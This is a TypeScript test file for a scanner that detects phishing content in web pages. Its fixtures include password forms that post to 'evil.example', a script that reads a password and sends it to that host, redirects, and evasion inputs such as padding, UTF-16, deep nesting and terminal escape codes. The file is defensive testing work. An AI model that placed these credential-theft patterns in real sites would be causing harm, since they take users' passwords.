/** Flagged and unflagged content: bad pages in disguise, and good ones that resemble them. */
import { describe, expect, test } from 'vitest';
import { bad, good, scan } from './corpus.ts';
import { readTemplate, templateNames } from './templates.ts';

const form = '<form action="https://evil.example/"><input type="password"></form>';

describe('content is flagged', () => {
  test.each(bad)('%s: %s', async (kind, _name, page) => {
    expect((await scan({ 'index.html': page })).kinds).toEqual([`index.html ${kind}`]);
  });

  test('password scripts of the site are flagged', async () => {
    const sends = 'fetch("https://evil.example/")';
    const files = { 'in/index.html': '<input type="password"><script src="../a%20b.js"></script>', 'a b.js': sends };
    expect((await scan(files)).kinds).toEqual(['in/index.html password_sent']);
    expect((await scan({ 'x.mjs': `const password = q("#p"); ${sends}` })).kinds).toEqual(['x.mjs password_sent']);
    expect((await scan({ 'x.js': 'location.replace("https://evil.example/")' })).kinds).toEqual(['x.js redirect']);
  });

  test('content after 10 MB, in invalid bytes or UTF-16 is flagged', async () => {
    const broken = Buffer.concat([Buffer.from([0xff, 0xc0, 0x80, 0xed, 0xa0]), Buffer.from(form)]);
    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(form, 'utf16le')]);
    const far = `<p>${'x'.repeat(9_000_000)}</p>${'<br>'.repeat(250_000)}${form}`;
    const script = `${'a=1;'.repeat(2_500_000)}password;fetch("https://evil.example/")`;
    const files = { 'b.html': broken, 'w.html': wide, 'f.html': far, 's.js': script };
    expect((await scan(files)).kinds).toEqual([
      'b.html password_form',
      'f.html password_form',
      's.js password_sent',
      'w.html password_form',
    ]);
  }, 30_000);

  test('a page too deep to read is reported as unread', async () => {
    expect((await scan({ 'd.html': `${'<b>'.repeat(200_000)}${form}` })).kinds).toEqual(['d.html unread']);
  });

  test('an address on the border of two script pieces is flagged', async () => {
    for (const before of [262_100, 262_130, 262_144, 262_150]) {
      const script = `${' '.repeat(before)}password;fetch("https://evil.example/")`;
      expect((await scan({ 's.js': script })).kinds).toEqual(['s.js password_sent']);
    }
  });
});

describe('content is harmless', () => {
  test.each(good)('%s', async (_name, page) => {
    expect((await scan({ 'index.html': page })).found).toEqual([]);
  });

  test.each(templateNames())('in the starter %s', async (name) => {
    expect((await scan(await readTemplate(name))).found).toEqual([]);
  });

  test('scanned files are not read again', async () => {
    const files = { 'a.html': form, 'b.html': form, 'c.png': 'x', 'd.css': 'x' };
    const { reads, whole } = await scan({ ...files, 'e.html': 'new' }, { before: [files] });
    expect([reads, whole]).toEqual([['e.html'], true]);
  });
});

test('a binary path stops no scan', async () => {
  expect((await scan({ '\ud800%.html': form, 'z.html': form })).found).toHaveLength(2);
});

test('an excerpt is one short line without control characters', async () => {
  const action = `https://evil.example/\u202e\u001b[2J${'x'.repeat(5_000)}\n`;
  const { found } = await scan({
    '\u001b]0;x\u0007\u202e.html': `<form action="${action}"><input type="password"></form>`,
  });
  for (const { path, excerpt } of found) expect(`${path}${excerpt}`).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
  expect(found.map(({ excerpt }) => excerpt.length)).toEqual([200]);
});

test('scan time depends only on size, also for hostile text', async () => {
  const mb = 1_000_000;
  const texts = [
    'location=a;{'.repeat(mb / 12),
    'fetch({'.repeat(mb / 7),
    '"+'.repeat(mb / 2),
    'a'.repeat(mb),
    'a= '.repeat(mb / 3),
    ' '.repeat(mb),
    'function a(){location="https://evil.example/"}'.repeat(mb / 46),
    '\\x'.repeat(mb / 2),
    'atob("'.repeat(mb / 6),
    'seed '.repeat(mb / 5),
    `<meta http-equiv=refresh content="${'0'.repeat(mb)}x"><meta http-equiv=refresh content="0${'.'.repeat(mb)}x">`,
    `<meta http-equiv=refresh content="0${' '.repeat(mb)}x">`,
    `${'<form>'.repeat(200)}${'<input formaction=x>'.repeat(mb / 20)}`,
  ];
  for (const text of texts) {
    const began = performance.now();
    await scan({ 's.js': text, 'p.html': `<p>${text}</p><script>${text}</script>` });
    expect([text.slice(0, 12), performance.now() - began < 5_000]).toEqual([text.slice(0, 12), true]);
  }
}, 60_000);
